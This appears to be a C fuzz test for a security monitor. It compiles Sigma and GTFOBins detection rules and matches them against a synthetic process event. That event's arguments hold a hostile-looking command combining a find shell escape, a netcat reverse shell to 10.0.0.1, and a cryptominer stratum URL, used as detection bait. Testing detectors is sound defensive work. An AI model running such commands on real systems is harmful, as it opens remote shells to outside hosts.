/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Rules of strangers, read and compared: Sigma, GTFOBins, and the sets that are made of
 * them, whoever has changed those.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "base/json.h"
#include "base/mem.h"
#include "fuzz/fuzz.h"
#include "monitor/command.h"
#include "monitor/pattern/compile.h"
#include "monitor/pattern/frame.h"
#include "monitor/pattern/set.h"
#include "unit/monitor/foreign.h"

#define BYTES_MAX 16384

static void count(const struct pattern_info *info, const char *indicator, void *data) {
	size_t *n = data;

	assert_true(info->level <= AUDIT_HIGH);
	assert_true(*info->id && *indicator);
	++*n;
}

static void compare(struct patterns *all) {
	static char *const argv[] = {
		(char *)"sh", (char *)"-c",
		(char *)"find . -exec /bin/sh \\; -quit | nc -e sh 10.0.0.1 9; "
			"python3 -c 'import socket' stratum+tcp://x aaaaaaaaaaaaaaa!"
	};
	const struct watch_event e = { .kind = WATCH_EXEC,
		                       .pid = 7,
		                       .ppid = 7,
		                       .exec = { .exe = "/bin/sh",
		                                 .file = "sh",
		                                 .comm = "sh",
		                                 .argv = argv,
		                                 .argc = ARRAY_SIZE(argv) } };
	auto_commands struct commands read;
	size_t fires = 0;

	commands_read(&e.exec, &read);
	(void)patterns_match(all, &e, &read, count, &fires);
	assert_true(fires <= patterns_count(all));
}

/* What is taken can be loaded: patterns_add() refuses a set for one rule that cannot. */
static void compile(const char *kind, const char *data, size_t size) {
	auto_json json_t *answer = pattern_compile(kind, "rules/a.yml", data, size);
	auto_json json_t *set = NULL;
	auto_patterns struct patterns *all = patterns_new();
	autofree char *text = NULL;
	struct err err = { 0 };

	assert_non_null(answer);
	if (!json_array_size(json_object_get(answer, "rules")))
		return;
	set = json_pack("{s:i, s:O}", "format", 1, "rules", json_object_get(answer, "rules"));
	text = json_dumps(set, JSON_COMPACT);
	assert_non_null(text);
	if (patterns_add(all, text, strlen(text), &err) < 0)
		fail_msg("%s", err.msg);
	compare(all);
}

/* The first byte says what it is. */
static void one(const uint8_t *data, size_t size) {
	const char *text = (const char *)data + 1;
	auto_patterns struct patterns *all = patterns_new();
	struct err err = { 0 };
	struct frame f;

	if (!size)
		return;
	size--;
	switch (data[0] % 4) {
	case 0:
		compile("sigma", text, size);
		break;
	case 1:
		compile("gtfobins", text, size);
		break;
	case 2:
		if (patterns_add(all, text, size, &err) == 0)
			compare(all);
		break;
	default:
		while (frame_next(&text, &size, &f))
			assert_true(strlen(f.name) < FRAME_NAME_MAX);
	}
}

/* A rule as it is, or the set that it makes. */
static bool make(size_t number, struct buf *out) {
	const struct foreign *f = &foreign[number / 2];
	auto_json json_t *answer = NULL, *set = NULL;
	autofree char *text = NULL;

	if (number == 2 * foreign_count)
		return false;
	if (number % 2 == 0) {
		buf_addc(out, !strcmp(f->kind, "gtfobins"));
		buf_adds(out, f->text);
		return true;
	}
	answer = pattern_compile(f->kind, f->file, f->text, strlen(f->text));
	set = json_pack("{s:i, s:O}", "format", 1, "rules", json_object_get(answer, "rules"));
	text = json_dumps(set, JSON_COMPACT);
	buf_addc(out, 2);
	buf_adds(out, text);
	return true;
}

/* The signs that mean something, more often than others. */
static void mutate(struct buf *b) {
	static const char signs[] = "'\"|:-*?&!%@`[]{}()\\\n \t#>,~.+^$\0001";

	for (size_t n = 1 + fuzz_chance(12); n > 0; n--)
		fuzz_change(b, signs, sizeof(signs));
}

const struct fuzz fuzz = {
	.name = "fuzz rules",
	.max = BYTES_MAX,
	.runs = 4000,
	.one = one,
	.make = make,
	.mutate = mutate,
};
